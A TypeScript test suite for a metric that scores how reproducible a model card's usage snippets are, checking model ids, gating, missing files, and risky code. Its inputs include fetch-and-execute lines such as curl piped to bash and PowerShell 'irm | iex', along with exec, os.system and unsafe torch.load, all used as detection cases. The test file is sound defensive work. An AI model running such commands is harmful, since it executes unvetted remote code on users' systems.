import { describe, expect, it } from "vitest";
import { reproducibility } from "../../../src/trust/metrics/reproducibility.ts";
import { ABSENT, BROKEN, DOWN, evidence, files, found, inputs, score } from "./evidence.ts";

const FILES = files("config.json", "model.safetensors", "tokenizer.json");
const py = (code: string) => `# Usage\n\`\`\`python\n${code}\n\`\`\`\n`;
const IMPORT = "from transformers import AutoModel, AutoTokenizer\n";
const LOAD = `${IMPORT}model = AutoModel.from_pretrained("acme/owl")`;
const of = (readme: string, over: Parameters<typeof evidence>[0] = {}) =>
  score(reproducibility(evidence({ readme, record: { files: FILES }, ...over })));

describe("reproducibility", () => {
  it("looks at the files of a repository once, however many snippets the card has", () => {
    let reads = 0;
    const counted = FILES.map((file) => ({
      ...file,
      get path() {
        reads += 1;
        return file.path;
      },
    }));
    const readsFor = (snippets: number) => {
      reads = 0;
      expect(
        of(py(LOAD.replace("acme/owl", 'acme/owl", filename="none.bin')).repeat(snippets), {
          record: { files: counted },
        }),
      ).toBe(0.5);
      return reads;
    };
    const once = readsFor(1);
    expect(once).toBeGreaterThan(0);
    expect(readsFor(100)).toBe(once);
  });
});

describe("reproducibility is 1", () => {
  it.each([
    ["a snippet that loads this id", py(LOAD)],
    ["an id in another case", py(LOAD.replace("acme/owl", "Acme/Owl"))],
    ["an id in a variable", py(`${IMPORT}name = "acme/owl"\nmodel = AutoModel.from_pretrained(name)`)],
    ["a pipeline", py('from transformers import pipeline\npipe = pipeline("fill-mask", model="acme/owl")')],
    ["a doctest", py('>>> from transformers import pipeline\n>>> pipeline("x", model="acme/owl")')],
    ["a command", "```sh\nvllm serve acme/owl\n```"],
    ["an id with address and quantisation", "```\nollama run hf.co/acme/owl:Q4_K_M\n```"],
    ["indented code", `Usage:\n\n${LOAD.replace(/^/gm, "    ")}\n`],
    ["a download into a file", "```\nollama run acme/owl\ncurl -o a.json https://x.test/a.json\n```"],
    ["a plain False", py(LOAD.replace(")", ", trust_remote_code=False)"))],
    ["safe loading", py(`${LOAD}\nimport torch\ntorch.load("x.pt", weights_only=True)`)],
    ["methods called eval and compile", py(`${LOAD}\nmodel.eval()\nmodel = torch.compile(model)`)],
    ["inputs that are spread", py(`${LOAD}\nmodel(**inputs)\nmodel.generate(**inputs, max_new_tokens=9)`)],
    ["powers in an argument", py(LOAD.replace(")", ", size=2 ** 3)"))],
    ["a prompt that says 'your'", py(`${LOAD}\nprint("What is your name?")`)],
    ["special tokens", py(`${LOAD}\nprompt = "<bos><|user|>"`)],
    ["one clear snippet beside a worse one", py(LOAD) + py(LOAD.replace("acme/owl", "your-name/owl"))],
  ])("for %s", (_, readme) => {
    expect(of(readme)).toBe(1);
  });

  it("for the id that a model had before the hub gave it an owner", () => {
    const readme = py(LOAD.replace("acme/owl", "bert-base-uncased"));
    expect(of(readme, { source: "google-bert/bert-base-uncased" })).toBe(1);
    expect(of(readme, { source: "acme/bert-base-uncased" })).toBe(0.5);
    expect(of(py(LOAD.replace("acme/owl", "ctrl")), { source: "Salesforce/ctrl" })).toBe(1);
  });

  it("for a model whose terms anybody can accept", () => {
    expect(of(py(LOAD), { record: { files: FILES, gated: true, gate: "auto" } })).toBe(1);
    expect(of(py(LOAD), { record: { files: FILES, gated: true, gate: "auto", disabled: true } })).toBe(0.5);
  });

  it("for an adapter without a config of its own", () => {
    const readme = py('from peft import PeftModel\nmodel = PeftModel.from_pretrained(base, "acme/owl")');
    expect(of(readme, { record: { files: files("adapter_config.json", "adapter_model.safetensors") } })).toBe(1);
  });

  it("for a file that is asked for by name and there", () => {
    const readme = py('from huggingface_hub import hf_hub_download\nhf_hub_download("acme/owl", filename="a.gguf")');
    expect(of(readme, { record: { files: files("a.gguf") } })).toBe(1);
    expect(of(readme, { record: { files: files("b.gguf") } })).toBe(0.5);
  });
});

describe("reproducibility is .5", () => {
  it.each([
    ["another id", py(LOAD.replace("acme/owl", "acme/other"))],
    ["this id in a comment only", py(LOAD.replace("acme/owl", "x/y").replace("model", "# acme/owl\nmodel"))],
    ["a placeholder for the owner", py(LOAD.replace("acme/owl", "your-username/owl"))],
    ["a placeholder beside this id", py(`${LOAD}\nimage = "path/to/image.png"`)],
    ["remote code", py(LOAD.replace(")", ", trust_remote_code = True)"))],
    ["remote code on the command line", "```\nvllm serve acme/owl --trust-remote-code\n```"],
    ["remote code by 1", py(LOAD.replace(")", ", trust_remote_code=1)"))],
    ["remote code by a variable", py(LOAD.replace(")", ", trust_remote_code=yes)"))],
    ["remote code over two lines", py(LOAD.replace(")", ",\n    trust_remote_code\n    =\n    True)"))],
    ["remote code in a dictionary", py(`${LOAD}\noptions = {"trust_remote_code": True}`)],
    ["remote code by a key", py(`${LOAD}\noptions["trust_remote_code"] = True`)],
    ["keywords from a variable", py(LOAD.replace(")", ", **options)"))],
    ["keywords from a dictionary", py(LOAD.replace(")", ', **{"trust_" + "remote_code": 1})'))],
    ["exec", py(`${LOAD}\nexec(open("x").read())`)],
    ["eval", py(`${LOAD}\nprint(eval (text))`)],
    ["an import by name", py(`${LOAD}\n__import__("os").system("ls")`)],
    ["a shell", py(`${LOAD}\nimport os\nos.system("sh x")`)],
    ["a process", py(`${LOAD}\nimport subprocess\nsubprocess.run(["sh"])`)],
    ["a pickle on purpose", py(`${LOAD}\nimport torch\ntorch.load("x.pt", weights_only=False)`)],
    ["a custom pipeline", py(LOAD.replace(")", ', custom_pipeline="acme/pipe")'))],
    ["a download of code", py(`${LOAD}\nhf_hub_download("acme/owl", filename="loader.py")`)],
    ["a download piped to a shell", "```\nollama run acme/owl\ncurl -s https://x.test/i | bash\n```"],
    ["a shell of a download", "```\nollama run acme/owl\nbash <(curl -s https://x.test/i)\n```"],
    ["a shell that is told a download", '```\nollama run acme/owl\nsh -c "$(wget -O- https://x.test/i)"\n```'],
    ["PowerShell of a download", "```\nollama run acme/owl\nirm https://x.test/i.ps1 | iex\n```"],
    ["demo code without a loader", py("import owl\nowl.run()")],
    ["a tokenizer that is missing", py(`${LOAD}\nAutoProcessor.from_pretrained("acme/owl")`)],
    ["an unknown library", py('import owl_lib\nowl_lib.load_model("acme/owl")')],
  ])("for %s", (_, readme) => {
    expect(of(readme)).toBe(0.5);
  });

  it.each([
    ["a gated model", { record: { files: FILES, gated: true } }],
    ["a gate that a person opens", { record: { files: FILES, gated: true, gate: "manual" as const } }],
    [
      "a script of the repository beside it",
      { record: { files: [...FILES, ...files("tools/run_owl.py")] }, readme: py(`${LOAD}\nrun_owl.py`) },
    ],
    [
      "custom code in another configuration",
      { configs: [{ path: "tokenizer_config.json", hooks: found(["auto_map"]) }] },
    ],
    ["a configuration that cannot be read", { config: BROKEN }],
    ["another configuration that cannot be read", { configs: [{ path: "processor_config.json", hooks: BROKEN }] }],
    ["missing weights", { record: { files: files("config.json", "tokenizer.json") } }],
    ["a missing configuration", { record: { files: files("model.safetensors") } }],
    ["custom code in the configuration", { config: found({ auto_map: { AutoModel: "modeling.Owl" } }) }],
    ["a library of an odd name", { record: { files: files("a.bin"), library_name: "constructor" } }],
  ])("for %s", (_, over) => {
    expect(of(py(LOAD), over)).toBe(0.5);
  });

  it("says what stood in the way", () => {
    const result = reproducibility(evidence({ readme: py(LOAD), record: { gated: true } }));
    expect(inputs(result)["obstacles"]).toEqual(["missing weights", "missing config.json", "gated"]);
  });
});

describe("reproducibility is 0", () => {
  it.each([
    ["no README", undefined],
    ["prose", 'Use AutoModel.from_pretrained("acme/owl").'],
    ["an install command", "```\npip install owl\n```"],
    ["a citation", "```bibtex\n@article{owl,\n title={Owl}}\n```"],
  ])("for %s", (_, readme) => {
    expect(score(reproducibility(evidence(readme === undefined ? {} : { readme })))).toBe(0);
  });
});

describe("reproducibility is unavailable", () => {
  it("without the README, or without what would decide", () => {
    expect(score(reproducibility(evidence({ readme: DOWN })))).toBe("unavailable: README: timed out");
    expect(of(py(LOAD), { record: DOWN })).toBe("unavailable: model record: timed out");
    expect(of(py(LOAD), { config: DOWN })).toBe("unavailable: config.json: timed out");
    expect(of(py(LOAD), { config: ABSENT })).toBe(1);
    expect(of("no code", { record: DOWN })).toBe(0);
    expect(score(reproducibility(evidence({ readme: BROKEN })))).toBe(0);
  });
});

// A Worker's clock stands still while it computes; what is not linear here would simply not end.
describe("hostile code", () => {
  it.each([
    "from_pretrained ",
    "a",
    "'\"",
    "pipeline (",
    "your-",
    "<model",
    "filename='",
    "import a\n",
    "trust_remote_code ",
    "from_pretrained(",
    "from_pretrained(**",
    "curl |",
    "curl x",
    "subprocess.",
    "exec ",
  ])("of two megabytes of %j is read", (piece) => {
    const start = Date.now();
    of(py(piece.repeat((2 * 1024 * 1024) / piece.length)));
    expect(Date.now() - start).toBeLessThan(3000);
  });
});
